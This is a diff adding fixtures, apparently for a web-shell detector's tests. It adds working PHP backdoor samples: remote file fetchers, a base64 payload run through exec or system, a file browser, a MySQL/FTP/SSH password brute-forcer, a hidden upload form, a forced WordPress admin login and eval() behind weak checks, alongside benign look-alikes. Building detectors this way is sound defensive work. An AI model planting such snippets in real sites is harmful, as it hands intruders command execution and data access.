@@ -90,6 +90,55 @@ const SHELLS: &[(&str, &str)] = &[
         "copied.php",
         "<?php copy_here('http://example.test/a/tool.php'); function copy_here($u, $f = '') { $f = empty($f) ? pathinfo($u, PATHINFO_BASENAME) : $f; $c = curl_init($u); file_put_contents($f, curl_exec($c)); }",
     ),
+    // What is fetched goes where the request says, or beside the page.
+    (
+        "fetched.php",
+        "<?php $u = $_POST['u']; $to = './' . basename($u); $in = fopen($u, 'rb'); $out = fopen($to, 'wb'); while (!feof($in)) { fwrite($out, fread($in, 4096)); }",
+    ),
+    (
+        "import.php",
+        "<?php $n = $_POST['n'] == '' ? basename($_POST['u']) : $_POST['n']; copy($_POST['u'], $n);",
+    ),
+    (
+        "program.php",
+        "<?php $t = base64_decode('IyEvdXNyL2Jpbi9wZXJsCnByaW50IDE7Cg=='); $f = fopen('/tmp/.x', 'w'); fputs($f, $t); if (function_exists('exec')) { exec('perl /tmp/.x'); } elseif (function_exists('system')) { system('perl /tmp/.x'); } else { passthru('perl /tmp/.x'); }",
+    ),
+    // Any folder, any file; passwords that are tried; an upload form behind a password that stands in the page.
+    (
+        "browse.php",
+        "<?php $p = $_GET['p'] ? $_GET['p'] : '/'; if ($h = @opendir($p)) { while ($n = readdir($h)) echo \"<a href=?p=$p/$n>$n</a>\"; } else { $f = fopen($p, 'r'); echo fread($f, filesize($p)); }",
+    ),
+    (
+        "tries.php",
+        "<?php foreach (explode(\"\\n\", $_POST['h']) as $h) foreach (explode(\"\\n\", $_POST['p']) as $p) { mysql_connect($h, $_POST['u'], $p); $c = ftp_connect($h); ftp_login($c, $_POST['u'], $p); $s = ssh2_connect($h); ssh2_auth_password($s, $_POST['u'], $p); }",
+    ),
+    (
+        "door.php",
+        "<?php session_start(); if ($_POST['k'] == 'Xy7!kPq2#') { $_SESSION['in'] = 1; } if (!empty($_SESSION['in'])) { move_uploaded_file($_FILES['f']['tmp_name'], 'img/' . $_FILES['f']['name']); } ?><form method=post enctype=\"multipart/form-data\"><input type=file name=f></form>",
+    ),
+    ("peer.php", "<?php system('./take '.$_SERVER['REMOTE_ADDR'].' '.$_SERVER['REMOTE_PORT']);"),
+    // The request as a framework hands it on; variables that it sets; a page that only lets in.
+    (
+        "action.php",
+        "<?php class A_Action extends Base { public function process(Req $request) { system($request->get('c')); } }",
+    ),
+    ("sets.php", "<?php if (!empty($_POST)) extract($_POST); if ($in) { $cmd .= ' 2>&1'; system($cmd); }"),
+    (
+        "enter.php",
+        "<?php require('wp-blog-header.php'); $u = get_userdata(1); wp_set_current_user($u->ID); wp_set_auth_cookie($u->ID);",
+    ),
+    // A check that lets the rest of the page run, or that allows what code is made of, is none.
+    (
+        "soft.php",
+        "<?php if (!preg_match('/^[0-9+]+$/', $_GET['e'])) { echo 'bad'; } eval('$r='.$_GET['e'].';');",
+    ),
+    ("wide.php", "<?php if (!preg_match('/^[a-z_0-9()\\'$;]+$/', $_GET['e'])) die; eval($_GET['e']);"),
+    ("half.php", "<?php $e = preg_replace('/[^0-9]/', '', $_GET['a']); eval($e.$_GET['b']);"),
+    ("open.php", "<?php if (!preg_match('/[0-9]/', $_GET['e'])) die; eval($_GET['e']);"),
+    (
+        "root.php",
+        "<?php $p = realpath($_POST['p']); if (strpos($p, '/') !== 0) die; file_put_contents($p, $_POST['c']);",
+    ),
     // Tags and names that are seldom used.
     ("tag.php", "<script language=\"php\">@eval($_POST['t'])</script>"),
     ("pages/short.pht", "<? @eval($_POST['t']); ?>"),
@@ -197,6 +246,31 @@ const HARMLESS: &[(&str, &str)] = &[
     (
         "filter.php",
         "<?php $m = filter_var($_POST['mail'], FILTER_VALIDATE_EMAIL); if (!$m) { die('bad address'); }",
+    ),
+    // Checks before the sink, settings that the set-up writes, what belongs to the application.
+    (
+        "sum.php",
+        "<?php $e = preg_replace('/[^0-9+*\\/().-]/', '', $_GET['e']); eval(\"\\$r = $e;\"); echo (float) $r;",
+    ),
+    (
+        "sum2.php",
+        "<?php $e = $_POST['e']; if (!preg_match('/^[0-9+*. ()-]+$/', $e)) { die('no'); } eval('$r = '.$e.';'); echo $r;",
+    ),
+    (
+        "files.php",
+        "<?php $root = realpath(UPLOADS); function inside($p) { global $root; $r = realpath($root.'/'.$p); if (strpos($r, $root) !== 0) die('no'); return $r; } switch ($_POST['do']) { case 'list': foreach (scandir(inside($_POST['d'])) as $f) echo htmlspecialchars($f); break; case 'delete': unlink(inside($_POST['f'])); break; case 'save': file_put_contents(inside($_POST['f']), $_POST['c']); break; }",
+    ),
+    (
+        "setup.php",
+        "<?php if (is_file('config.php')) die('done'); if ($_POST) { $c = \"<?php\\ndefine('HOST', '\".addslashes($_POST['host']).\"');\\ndefine('USER', '\".addslashes($_POST['user']).\"');\\n\"; $m = new mysqli($_POST['host'], $_POST['user']); file_put_contents('config.php', $c); }",
+    ),
+    (
+        "plugins.jsp",
+        "<% ClassLoader l = new java.net.URLClassLoader(new java.net.URL[]{application.getResource(\"/WEB-INF/plugins/a.jar\")}); Runnable r = (Runnable) l.loadClass(\"com.example.A\").newInstance(); r.run(); %>",
+    ),
+    (
+        "environment.php",
+        "<?php $e = array_intersect_key(getenv(), $_SERVER); $c = 'nice -n 5 backup'; foreach ($e as $k => $v) { $c .= ' '.$k; } proc_open($c, array(), $p, null, $e);",
     ),
     ("method.php", "<?php $name = 'show'.ucfirst('page'); $this->$name($_GET['id']);"),
     (
